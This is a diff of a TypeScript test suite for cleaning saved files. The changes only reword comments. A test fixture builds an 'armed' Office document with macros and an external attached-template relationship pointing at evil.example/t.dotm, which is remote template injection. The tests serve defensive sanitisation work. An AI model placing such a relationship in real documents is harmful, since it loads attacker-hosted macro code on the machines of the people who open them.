@@ -22,7 +22,7 @@ const start = Date.parse('2026-03-02T10:00:00.000Z');
 const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
 const rels = `<Relationships><Relationship Id="rId1" Type="${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
 
-/** A text with macros and a template far away. */
+/** A text document with macros and a remote template. */
 function armed(text: string): Uint8Array {
   const part = (name: string, content: string) =>
     packEntry({ name, content: new TextEncoder().encode(content), codec: fflateCodec });
@@ -80,7 +80,7 @@ it('a cleaned save is the same for a process that opens the file afresh', async 
 });
 
 describe('a version that was kept before saves were cleaned', () => {
-  /** As an earlier program left it: the bytes of the one whole file are others now. */
+  /** A version as an earlier version of the program stored it: replaces the bytes of the whole file. */
   async function keptArmed(): Promise<FileId> {
     const at = new Date(start);
     const { fileId } = await createFile({
